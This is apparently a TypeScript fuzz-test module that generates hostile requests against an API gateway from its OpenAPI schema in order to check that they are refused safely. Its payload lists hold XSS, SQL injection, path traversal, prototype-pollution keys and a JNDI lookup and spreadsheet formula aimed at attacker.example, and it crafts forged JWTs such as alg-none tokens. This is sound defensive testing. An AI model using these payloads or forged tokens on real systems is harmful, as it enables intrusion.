import fc from 'fast-check';
import { sign } from 'jsonwebtoken';

/**
 * A hostile run generated from the gateway's own OpenAPI document: every operation it lists, called with wrong
 * types, boundary values, hostile text, unknown fields, malformed and huge bodies, odd headers and bad tokens of every
 * kind. Used by the end-to-end spec (a seeded 1,500) and by `npm run bench` (10,000 and more). Imported by path, not
 * from the package index, so that other specs do not load fast-check.
 *
 * No request may change anything: a credential the gateway might accept (`mayBeAccepted`) only ever carries a body
 * its schema refuses (a declared field of the wrong type and an unknown field), or one the body parser refuses; a
 * write without a body schema is only sent with credentials that are certainly refused; path ids of writes are never
 * ids that exist.
 */

export interface JsonSchema {
  $ref?: string;
  type?: string;
  properties?: Record<string, JsonSchema>;
  additionalProperties?: boolean | JsonSchema;
  items?: JsonSchema;
  required?: string[];
  enum?: unknown[];
  minLength?: number;
  maxLength?: number;
  minimum?: number;
  maximum?: number;
  minItems?: number;
  maxItems?: number;
  format?: string;
  nullable?: boolean;
  anyOf?: JsonSchema[];
  oneOf?: JsonSchema[];
  allOf?: JsonSchema[];
}

interface Parameter {
  name: string;
  in: 'path' | 'query' | 'header' | 'cookie';
  schema?: JsonSchema;
}

interface Operation {
  parameters?: Parameter[];
  requestBody?: { content?: Record<string, { schema?: JsonSchema }> };
}

export interface OpenApiDocument {
  paths: Record<string, Record<string, Operation>>;
  components?: { schemas?: Record<string, JsonSchema> };
}

export interface HostileCredential {
  name: string;
  /** The Authorization header as sent; none when absent. */
  authorization?: string;
  /** True for a credential this build could accept (valid, or refused only by rules another build may not have). */
  mayBeAccepted: boolean;
}

export interface HostileRequest {
  /** `POST /api/v1/mous/{id}/signatures`: the operation of the document. */
  operation: string;
  method: string;
  /** Path and query, as sent. */
  url: string;
  headers: Record<string, string>;
  body?: string;
  /** What was tried, for the report. */
  credential: string;
  variant: string;
}

export interface HostileOptions {
  count: number;
  seed: number;
  credentials: HostileCredential[];
  /** Ids that exist: used in the paths of reads only. */
  knownIds?: string[];
  /** The gateway's body limit; a few bodies are just over it. */
  bodyLimitBytes: number;
}

interface Op {
  method: string;
  path: string;
  pathParams: string[];
  query: Parameter[];
  body?: JsonSchema;
  bodyProps: string[];
}

const MAX_SAFE = Number.MAX_SAFE_INTEGER;

const HOSTILE_TEXT = [
  '',
  ' ',
  '\u0000',
  'a\u0007b',
  'left\u202eright',
  '\u2066isolated\u2069',
  '\ud800',
  '\udfff alone',
  '<script>alert(1)</script>',
  "' OR '1'='1' --",
  '${jndi:ldap://attacker.example/a}',
  '../../../../etc/passwd',
  '__proto__',
  'constructor',
  '%00',
  '%',
  '\u2028\u2029',
  '😀'.repeat(50),
  'ก'.repeat(301),
  'العربية',
  'null',
  'NaN',
  '-0',
  '1e309',
  '{"$gt":""}',
  '=HYPERLINK("http://attacker.example")',
];

const ODD_IDS = [
  '',
  'not-a-uuid',
  '00000000-0000-0000-0000-000000000000',
  'FFFFFFFF-FFFF-FFFF-FFFF-FFFFFFFFFFFF',
  '0190b4d0-7c4e-7d2a-9b1e-2f3a4b5c6d7e ',
  '..',
  '%2e%2e',
  '%00',
  '%ZZ',
  '%',
  'a'.repeat(2048),
  'ก',
  "1' OR '1'='1",
  '1;DROP TABLE events',
  '__proto__',
];

const MALFORMED_JSON = [
  '{',
  '{"a":}',
  '[1,2',
  'nul',
  '{"a":1}}',
  '"unterminated',
  '{"a":NaN}',
  "{'a':1}",
  '{"a":1,}',
  '\u0000',
  '{"a":"\\x41"}',
  '\ufeff{"a":1}',
  '{"a":1e999999}',
];
const WRONG_JSON_TYPES = ['[]', 'null', '"text"', '0', 'true', '[{}]'];

function resolve(doc: OpenApiDocument, schema: JsonSchema | undefined): JsonSchema | undefined {
  let s = schema;
  for (let i = 0; i < 10 && s?.$ref; i++) s = doc.components?.schemas?.[s.$ref.replace('#/components/schemas/', '')];
  return s;
}

/** A value no schema of this type accepts: the guarantee that a body is refused. */
function certainlyWrong(schema: JsonSchema | undefined): unknown {
  switch (schema?.type) {
    case 'string':
      return { $hostile: [1] };
    case 'integer':
    case 'number':
      return 'not a number';
    case 'boolean':
      return 'not a boolean';
    case 'array':
      return 'not an array';
    case 'object':
      return 'not an object';
    default:
      return undefined;
  }
}

const wrongType = (schema: JsonSchema | undefined): fc.Arbitrary<unknown> =>
  fc.constantFrom<unknown>(12345, 'text', true, [], {}, [1, 'two'], { nested: { deeper: [null] } }, null).filter((v) => {
    if (v === null) return !schema?.nullable;
    const t = Array.isArray(v) ? 'array' : typeof v === 'object' ? 'object' : typeof v === 'number' ? 'number' : typeof v;
    return !(t === schema?.type || (t === 'number' && schema?.type === 'integer'));
  });

function stringArb(s: JsonSchema, knownIds: string[]): fc.Arbitrary<unknown> {
  const max = s.maxLength ?? 200;
  const good: fc.Arbitrary<string> =
    s.format === 'uuid'
      ? knownIds.length > 0
        ? fc.oneof(fc.uuid(), fc.constantFrom(...knownIds))
        : fc.uuid()
      : s.format === 'date'
        ? fc.constantFrom('2025-01-01', '2025-02-30', '0000-01-01', '9999-12-31', '2025-1-1')
        : s.format === 'date-time'
          ? fc.constantFrom('2025-01-01T00:00:00Z', '1970-01-01T00:00:00Z', '2999-12-31T23:59:59Z', '2025-01-01T25:00:00Z', '2025-01-01')
          : s.format === 'email'
            ? fc.constantFrom('a@example.org', 'not-an-email', '@', 'a@b')
            : fc.string({ maxLength: Math.min(max, 40) });
  const boundary = fc.constantFrom('x'.repeat(max), 'x'.repeat(max + 1), 'ก'.repeat(max + 1), ' '.repeat(Math.min(max, 10)));
  return fc.oneof(
    { arbitrary: good, weight: 4 },
    { arbitrary: boundary, weight: 1 },
    { arbitrary: fc.constantFrom(...HOSTILE_TEXT), weight: 2 },
    { arbitrary: wrongType(s), weight: 1 },
  );
}

function numberArb(s: JsonSchema): fc.Arbitrary<unknown> {
  const min = s.minimum ?? -1000;
  const max = s.maximum ?? 1000;
  const good = fc.integer({ min: Math.max(min, -MAX_SAFE), max: Math.min(max, MAX_SAFE) });
  const boundary = fc.constantFrom(min - 1, min, max, max + 1, 0, -1, MAX_SAFE, MAX_SAFE + 1, -MAX_SAFE - 1, 1.5, 1e308, -0, 2 ** 53 + 2);
  return fc.oneof({ arbitrary: good, weight: 2 }, { arbitrary: boundary, weight: 2 }, { arbitrary: wrongType(s), weight: 1 });
}

function valueArb(doc: OpenApiDocument, schema: JsonSchema | undefined, knownIds: string[], depth: number): fc.Arbitrary<unknown> {
  const s = resolve(doc, schema);
  if (!s || depth > 4) return fc.constantFrom<unknown>(null, 'x', 1);
  const alternatives = s.anyOf ?? s.oneOf ?? s.allOf;
  if (alternatives?.length) return fc.oneof(...alternatives.map((a) => valueArb(doc, a, knownIds, depth + 1)));
  if (s.enum?.length)
    return fc.oneof({ arbitrary: fc.constantFrom(...s.enum), weight: 3 }, { arbitrary: fc.constantFrom('not-in-enum', 'GOVERNMENT', ''), weight: 1 });
  switch (s.type) {
    case 'string':
      return stringArb(s, knownIds);
    case 'integer':
    case 'number':
      return numberArb(s);
    case 'boolean':
      return fc.oneof(fc.boolean(), wrongType(s));
    case 'array': {
      const item = valueArb(doc, s.items, knownIds, depth + 1);
      const tooMany = Math.min((s.maxItems ?? 100) + 1, 600);
      return fc.oneof(
        { arbitrary: fc.array(item, { maxLength: Math.min(s.maxItems ?? 4, 4) }), weight: 4 },
        { arbitrary: item.map((v) => Array.from({ length: tooMany }, () => v)), weight: 1 },
        { arbitrary: wrongType(s), weight: 1 },
      );
    }
    case 'object':
    default:
      return objectArb(doc, s, knownIds, depth, false);
  }
}

/** An object of the schema's fields, each maybe present; with `refused`, one declared field certainly wrong and an unknown one. */
function objectArb(doc: OpenApiDocument, s: JsonSchema, knownIds: string[], depth: number, refused: boolean): fc.Arbitrary<unknown> {
  const props = s.properties ?? {};
  const model = Object.fromEntries(Object.entries(props).map(([k, v]) => [k, valueArb(doc, v, knownIds, depth + 1)]));
  const extras = fc.option(
    // JSON.parse makes __proto__ an own key, as the server's parser does (an object literal would set the prototype)
    fc.constantFrom<Record<string, unknown>>(
      { unknownField: 1 },
      JSON.parse('{"__proto__":{"admin":true}}'),
      { constructor: { prototype: 1 } },
      { version: 99 },
      { actor: 'admin' },
    ),
    { nil: undefined },
  );
  const typed = Object.entries(props).filter(([, v]) => certainlyWrong(resolve(doc, v)) !== undefined);
  return fc
    .record({
      base: fc.record(model, { requiredKeys: [] }),
      extra: extras,
      wrong: typed.length ? fc.constantFrom(...typed.map(([k]) => k)) : fc.constant(undefined),
    })
    .map(({ base, extra, wrong }) => {
      const out: Record<string, unknown> = { ...(base as Record<string, unknown>) };
      // own properties even for __proto__, as JSON.parse on the server makes them
      if (extra) for (const [k, v] of Object.entries(extra)) Object.defineProperty(out, k, { value: v, enumerable: true, writable: true, configurable: true });
      if (refused) {
        if (wrong !== undefined) out[wrong] = certainlyWrong(resolve(doc, props[wrong]));
        out.$hostileUnknownField = true;
      }
      return out;
    });
}

function operationsOf(doc: OpenApiDocument): Op[] {
  const ops: Op[] = [];
  for (const [path, methods] of Object.entries(doc.paths)) {
    for (const [method, op] of Object.entries(methods)) {
      if (!['get', 'post', 'put', 'patch', 'delete'].includes(method)) continue;
      const params = op.parameters ?? [];
      const body = resolve(doc, op.requestBody?.content?.['application/json']?.schema);
      ops.push({
        method: method.toUpperCase(),
        path,
        pathParams: params.filter((p) => p.in === 'path').map((p) => p.name),
        query: params.filter((p) => p.in === 'query'),
        body,
        bodyProps: Object.keys(body?.properties ?? {}),
      });
    }
  }
  return ops;
}

/** encodeURIComponent, but a lone surrogate (which it cannot encode) is sent as the bytes of one, ED A0 80: hostile in its own right. */
const enc = (v: string): string =>
  v
    .split(/(\p{Cs})/u)
    .map((part, i) => (i % 2 === 1 ? '%ED%A0%80' : encodeURIComponent(part)))
    .join('');

const printable = (max: number) => fc.string({ maxLength: max }).map((s) => s.replace(/[^\x20-\x7e]/g, '?'));

const headersArb = fc.record(
  {
    'if-match': fc.constantFrom('"1"', '*', 'W/"1"', '1', '"99999999999999999999"', '"-1"', 'x'.repeat(500)),
    'idempotency-key': fc.oneof(printable(40), fc.constant('k'.repeat(300)), fc.constant('')),
    'occurred-at': fc.constantFrom('2025-01-01T00:00:00Z', '2999-01-01T00:00:00Z', 'yesterday', '1970-01-01T00:00:00Z', ''),
    'x-correlation-id': fc.oneof(printable(40), fc.constant('c'.repeat(5000))),
    accept: fc.constantFrom('application/json', 'text/html', '*/*', 'application/xml', ''),
  },
  { requiredKeys: [] },
);

function pathArb(op: Op, knownIds: string[]): fc.Arbitrary<string> {
  const ids = op.method === 'GET' && knownIds.length > 0 ? fc.oneof(fc.uuid(), fc.constantFrom(...knownIds)) : fc.uuid();
  const param = fc.oneof(
    { arbitrary: ids.map(enc), weight: 3 },
    { arbitrary: fc.constantFrom(...ODD_IDS).map(enc), weight: 2 },
    { arbitrary: fc.constantFrom('%ZZ', '%', '%C0%AF', '..%2F..%2F'), weight: 1 },
  );
  return fc
    .tuple(...op.pathParams.map(() => param))
    .map((values) => op.pathParams.reduce((p, name, i) => p.replace(`{${name}}`, values[i] as string), op.path));
}

function queryArb(doc: OpenApiDocument, op: Op, knownIds: string[]): fc.Arbitrary<string> {
  const entries = op.query.map((q) =>
    fc.option(
      valueArb(doc, q.schema, knownIds, 2).map((v) => [q.name, typeof v === 'string' ? v : (JSON.stringify(v) ?? '')] as const),
      { nil: undefined, freq: 2 },
    ),
  );
  const extra = fc.option(
    fc.constantFrom<[string, string]>(
      ['unknown', '1'],
      ['limit', '-1'],
      ['limit', '100000'],
      ['cursor', 'garbage'],
      ['access_token', 'x'],
      ['token', 'y'],
      ['__proto__', 'z'],
      ['key', 'k'],
    ),
    { nil: undefined },
  );
  return fc
    .record({ values: fc.tuple(...entries), extra, repeat: fc.boolean(), raw: fc.constantFrom('', '', '', '&%ZZ=1', '&a[b][c]=1', '&=&&=') })
    .map(({ values, extra, repeat, raw }) => {
      const pairs = values.filter((v): v is readonly [string, string] => v !== undefined).map(([k, v]) => `${enc(k)}=${enc(v)}`);
      if (repeat && pairs.length > 0) pairs.push(pairs[0]);
      if (extra) pairs.push(`${encodeURIComponent(extra[0])}=${encodeURIComponent(extra[1])}`);
      const q = pairs.join('&') + raw;
      return q ? `?${q}` : '';
    });
}

function bodyArb(
  doc: OpenApiDocument,
  op: Op,
  refused: boolean,
  knownIds: string[],
  limit: number,
): fc.Arbitrary<{ body: string; contentType?: string; encoding?: string; variant: string }> {
  const schemaBody = op.body ? objectArb(doc, op.body, knownIds, 0, refused) : fc.constant({ $hostileUnknownField: true });
  const json = (variant: string) => schemaBody.map((b) => ({ body: JSON.stringify(b), contentType: 'application/json', variant }));
  return fc.oneof(
    { arbitrary: json('schema'), weight: 60 },
    { arbitrary: fc.constantFrom(...MALFORMED_JSON).map((body) => ({ body, contentType: 'application/json', variant: 'malformed json' })), weight: 12 },
    {
      arbitrary: fc.constantFrom(...WRONG_JSON_TYPES).map((body) => ({ body, contentType: 'application/json', variant: 'json of the wrong type' })),
      weight: 6,
    },
    {
      arbitrary: fc
        .constantFrom(40, 2000, 100_000)
        .map((n) => ({ body: `{"a":${'['.repeat(n)}${']'.repeat(n)}}`, contentType: 'application/json', variant: 'deeply nested' })),
      weight: 5,
    },
    {
      arbitrary: fc
        .record({
          b: schemaBody,
          ct: fc.constantFrom(
            'text/plain',
            'application/x-www-form-urlencoded',
            'multipart/form-data; boundary=x',
            'application/json; charset=latin1',
            'application/json; charset=utf-16',
            'application/xml',
          ),
        })
        .map(({ b, ct }) => ({ body: JSON.stringify(b), contentType: ct, variant: 'wrong content type' })),
      weight: 8,
    },
    {
      arbitrary: fc
        .record({ b: schemaBody, enc: fc.constantFrom('gzip', 'br', 'deflate', 'x-unknown') })
        .map(({ b, enc }) => ({ body: JSON.stringify(b), contentType: 'application/json', encoding: enc, variant: 'bogus content encoding' })),
      weight: 3,
    },
    { arbitrary: fc.constant({ body: `{"name":"${'x'.repeat(limit + 16)}"}`, contentType: 'application/json', variant: 'over the body limit' }), weight: 1 },
  );
}

/** `count` requests, the same for the same seed and document. */
export function hostileRequests(doc: OpenApiDocument, options: HostileOptions): HostileRequest[] {
  const knownIds = options.knownIds ?? [];
  const ops = operationsOf(doc);
  const refusedOnly = options.credentials.filter((c) => !c.mayBeAccepted);
  if (refusedOnly.length === 0) throw new Error('give at least one credential that is certainly refused');
  const request = fc.constantFrom(...ops).chain((op) => {
    const writes = op.method !== 'GET';
    // a write whose body cannot be made certainly invalid goes only with credentials that are certainly refused
    const credentials = writes && op.bodyProps.length === 0 ? refusedOnly : options.credentials;
    return fc.constantFrom(...credentials).chain((credential) =>
      fc
        .record({
          path: pathArb(op, knownIds),
          query: queryArb(doc, op, knownIds),
          headers: headersArb,
          // a credential that may be accepted always sends a body that is refused: no body at all would parse as {}
          body: !writes
            ? fc.constant(undefined)
            : credential.mayBeAccepted
              ? bodyArb(doc, op, true, knownIds, options.bodyLimitBytes)
              : fc.option(bodyArb(doc, op, false, knownIds, options.bodyLimitBytes), { nil: undefined, freq: 4 }),
          credential: fc.constant(credential),
        })
        .map(({ path, query, headers, body, credential: c }): HostileRequest => {
          const h: Record<string, string> = { ...headers };
          if (c.authorization !== undefined) h.authorization = c.authorization;
          if (body?.contentType) h['content-type'] = body.contentType;
          if (body?.encoding) h['content-encoding'] = body.encoding;
          return {
            operation: `${op.method} ${op.path}`,
            method: op.method,
            url: `${path}${query}`,
            headers: h,
            body: body?.body,
            credential: c.name,
            variant: body?.variant ?? (writes ? 'no body' : 'read'),
          };
        }),
    );
  });
  return fc.sample(request, { numRuns: options.count, seed: options.seed });
}

export interface HostileOutcome {
  total: number;
  byStatus: Record<string, number>;
  /** Every 5xx and every request the server did not answer (a dropped connection), with what was sent. */
  failures: Array<{ status: number | 'no answer'; method: string; url: string; credential: string; variant: string; answer: string }>;
}

/** Sends the requests, `concurrency` at a time, and counts the answers. */
export async function runHostile(base: string, requests: HostileRequest[], concurrency = 8): Promise<HostileOutcome> {
  const outcome: HostileOutcome = { total: 0, byStatus: {}, failures: [] };
  let next = 0;
  const worker = async () => {
    while (next < requests.length) {
      const r = requests[next++];
      let status: number | 'no answer';
      let answer = '';
      try {
        const res = await fetch(`${base}${r.url}`, { method: r.method, headers: r.headers, body: r.body, redirect: 'manual' });
        status = res.status;
        answer = status >= 500 ? (await res.text()).slice(0, 300) : '';
        if (status < 500) await res.arrayBuffer();
      } catch (e) {
        status = 'no answer';
        answer = String((e as Error).cause ?? e).slice(0, 300);
      }
      outcome.total++;
      outcome.byStatus[String(status)] = (outcome.byStatus[String(status)] ?? 0) + 1;
      if (status === 'no answer' || status >= 500)
        outcome.failures.push({ status, method: r.method, url: r.url.slice(0, 200), credential: r.credential, variant: r.variant, answer });
    }
  };
  await Promise.all(Array.from({ length: concurrency }, worker));
  return outcome;
}

const b64 = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');

/**
 * Bad tokens of every kind, and good ones of every role, for `sub`: those signed with the real secret that this or a
 * stricter build might accept are `mayBeAccepted` (they get only refused bodies); the rest are refused everywhere.
 */
export function hostileCredentials(secret: string, sub: string): HostileCredential[] {
  const now = Math.floor(Date.now() / 1000);
  const good = (roles: unknown, extra: Record<string, unknown> = {}, expiresIn: number | undefined = 3600) =>
    sign({ sub, roles, ...extra }, secret, { algorithm: 'HS256', ...(expiresIn !== undefined && { expiresIn }) });
  const admin = good(['admin']);
  const [header, , signature] = admin.split('.');
  return [
    { name: 'no token', mayBeAccepted: false },
    { name: 'empty bearer', authorization: 'Bearer', mayBeAccepted: false },
    { name: 'bearer and a space', authorization: 'Bearer ', mayBeAccepted: false },
    { name: 'basic auth', authorization: 'Basic dXNlcjpwYXNz', mayBeAccepted: false },
    { name: 'not a JWT', authorization: 'Bearer not.a.jwt', mayBeAccepted: false },
    { name: 'huge token', authorization: `Bearer ${'a'.repeat(9000)}`, mayBeAccepted: false },
    { name: 'alg none', authorization: `Bearer ${b64({ alg: 'none', typ: 'JWT' })}.${b64({ sub, roles: ['admin'], exp: now + 3600 })}.`, mayBeAccepted: false },
    {
      name: 'wrong secret',
      authorization: `Bearer ${sign({ sub, roles: ['admin'] }, 'not-the-secret-at-all-0123456789abcdef', { algorithm: 'HS256', expiresIn: 3600 })}`,
      mayBeAccepted: false,
    },
    {
      name: 'expired',
      authorization: `Bearer ${sign({ sub, roles: ['admin'], iat: now - 7200, exp: now - 3600 }, secret, { algorithm: 'HS256' })}`,
      mayBeAccepted: false,
    },
    { name: 'no subject', authorization: `Bearer ${sign({ roles: ['admin'] }, secret, { algorithm: 'HS256', expiresIn: 3600 })}`, mayBeAccepted: false },
    {
      name: 'empty subject',
      authorization: `Bearer ${sign({ sub: '', roles: ['admin'] }, secret, { algorithm: 'HS256', expiresIn: 3600 })}`,
      mayBeAccepted: false,
    },
    { name: 'forged claims', authorization: `Bearer ${header}.${b64({ sub, roles: ['admin'], exp: now + 86400 * 365 })}.${signature}`, mayBeAccepted: false },
    { name: 'HS512', authorization: `Bearer ${sign({ sub, roles: ['admin'] }, secret, { algorithm: 'HS512', expiresIn: 3600 })}`, mayBeAccepted: true },
    { name: 'lower-case scheme', authorization: `bearer ${admin}`, mayBeAccepted: true },
    { name: 'trailing garbage', authorization: `Bearer ${admin} extra`, mayBeAccepted: true },
    { name: 'no exp', authorization: `Bearer ${good(['admin'], {}, undefined)}`, mayBeAccepted: true },
    { name: '48 h lifetime', authorization: `Bearer ${good(['staff'], {}, 48 * 3600)}`, mayBeAccepted: true },
    { name: 'not yet valid', authorization: `Bearer ${good(['admin'], { nbf: now + 86400 })}`, mayBeAccepted: true },
    { name: 'roles as text', authorization: `Bearer ${good('admin')}`, mayBeAccepted: true },
    { name: 'unknown role', authorization: `Bearer ${good(['root'])}`, mayBeAccepted: true },
    { name: 'viewer', authorization: `Bearer ${good(['viewer'])}`, mayBeAccepted: true },
    { name: 'auditor', authorization: `Bearer ${good(['auditor'])}`, mayBeAccepted: true },
    { name: 'staff', authorization: `Bearer ${good(['staff'])}`, mayBeAccepted: true },
    { name: 'admin', authorization: `Bearer ${admin}`, mayBeAccepted: true },
  ];
}
